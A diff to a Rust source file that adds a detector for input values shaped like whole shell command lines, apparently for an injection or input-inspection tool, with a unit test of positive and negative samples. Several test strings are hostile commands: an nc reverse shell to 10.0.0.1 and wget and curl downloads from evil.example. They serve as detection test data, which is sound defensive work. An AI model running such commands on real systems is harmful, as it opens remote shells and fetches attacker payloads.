@@ -676,6 +676,95 @@ fn glob_match(p: &[u8], s: &[u8]) -> bool {
     }
 }
 
+/// Whether `v` is, as a whole, a command line (fuzzing / tooling entry point).
+pub fn is_command_line(v: &[u8]) -> bool {
+    detect_command_line(v).is_some()
+}
+
+/// A value that is, as a whole, one command line, for a parameter a
+/// program hands to a shell or `exec` as it is (no separator needed): a
+/// program name (lower case, perhaps a path: `chef-client`, `/usr/bin/nc`)
+/// then words of command-line shape only, among them an option with its
+/// argument (`-m ping`, `-e /bin/sh`, `-t 1.1.1.1`), a long option
+/// (`--output=x`), or, for a command no sentence uses as a word (`nc`,
+/// `wget`, `ls`…), a URL, an absolute path or an IPv4 address (`wget
+/// http://x/s.sh`, `nc 10.0.0.1 4444`). Prose and search text have
+/// punctuation, capitals at the start, or no option: `ls foo bar` and
+/// `del nuevo mundo` are not read as commands (a plain word after a
+/// command name is what a search box carries). One pass over at most 256
+/// bytes and 16 words, no allocation.
+pub(crate) fn detect_command_line(v: &[u8]) -> Option<Range<usize>> {
+    let line = v.trim_ascii();
+    if line.len() < 4 || line.len() > 256 {
+        return None;
+    }
+    let cli_byte = |b: u8| {
+        b.is_ascii_alphanumeric()
+            || matches!(
+                b,
+                b' ' | b'\t' | b'.' | b'_' | b'/' | b':' | b'=' | b'@' | b',' | b'+' | b'-' | b'~'
+            )
+    };
+    if !line.iter().all(|&b| cli_byte(b)) {
+        return None;
+    }
+    let mut words = line
+        .split(|&b| b == b' ' || b == b'\t')
+        .filter(|w| !w.is_empty());
+    let program = words.next()?;
+    let base = program.rsplit(|&b| b == b'/').next()?;
+    let name_ok = base.len() <= 32
+        && base.first().is_some_and(u8::is_ascii_lowercase)
+        && base.last().is_some_and(u8::is_ascii_alphanumeric)
+        && base.iter().all(|&b| {
+            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.')
+        });
+    if !name_ok || program.contains(&b':') {
+        return None;
+    }
+    let strong = matches!(command_word(base), Some((Strength::Strong, _)));
+    let mut after_short = false;
+    for (n, w) in words.enumerate() {
+        if n >= 16 {
+            return None;
+        }
+        let short = w.len() == 2 && w[0] == b'-' && w[1].is_ascii_alphabetic();
+        let long = w.len() > 3
+            && w.starts_with(b"--")
+            && w[2].is_ascii_lowercase()
+            && w[2..]
+                .iter()
+                .take_while(|&&b| b != b'=')
+                .all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
+        let option_argument = after_short && w[0] != b'-';
+        let target = strong && (w.len() > 1 && w[0] == b'/' || is_url(w) || is_ipv4(w));
+        if long || option_argument || target {
+            return Some(0..v.len().min(64));
+        }
+        after_short = short;
+    }
+    None
+}
+
+/// `http://…`, `https://…`, `ftp://…` with a host.
+fn is_url(w: &[u8]) -> bool {
+    [&b"http://"[..], b"https://", b"ftp://"]
+        .iter()
+        .any(|p| w.len() > p.len() + 1 && w[..p.len()].eq_ignore_ascii_case(p))
+}
+
+/// Four dot-separated numbers of at most three digits.
+fn is_ipv4(w: &[u8]) -> bool {
+    let mut parts = 0;
+    for p in w.split(|&b| b == b'.') {
+        parts += 1;
+        if p.is_empty() || p.len() > 3 || !p.iter().all(u8::is_ascii_digit) {
+            return false;
+        }
+    }
+    parts == 4
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -763,5 +852,44 @@ mod tests {
         let _ = detect(v.as_bytes());
         let w = "a".repeat(200_000);
         assert!(detect(format!(";{w}").as_bytes()).is_none());
+    }
+
+    #[test]
+    fn whole_command_lines() {
+        assert_each(
+            is_command_line,
+            true,
+            &[
+                "nc -e /bin/sh 10.0.0.1 4444",
+                "wget http://evil.example/s.sh",
+                "curl -o /tmp/x http://evil.example/x",
+                "ansible all -m ping\n",
+                "chef-client -t 1.1.1.1",
+                "python3 -c import,os",
+                "ls /etc",
+                "/usr/bin/nc 10.0.0.1 4444",
+                "rsync --delete a b",
+                "tar -x -f a.tar",
+            ],
+        );
+        assert_each(
+            is_command_line,
+            false,
+            &[
+                "ls foo bar",
+                "del nuevo mundo s/n",
+                "start content",
+                "copy of the report",
+                "New York - Paris",
+                "jaguar -car",
+                "Type -A blood",
+                "price 10 - 20 eur",
+                "hello world",
+                "pages 1-10, -5 off",
+                "see http://example.com/",
+                "2024-01-01 -t 5",
+                "mailto:a@b.c -x y",
+            ],
+        );
     }
 }
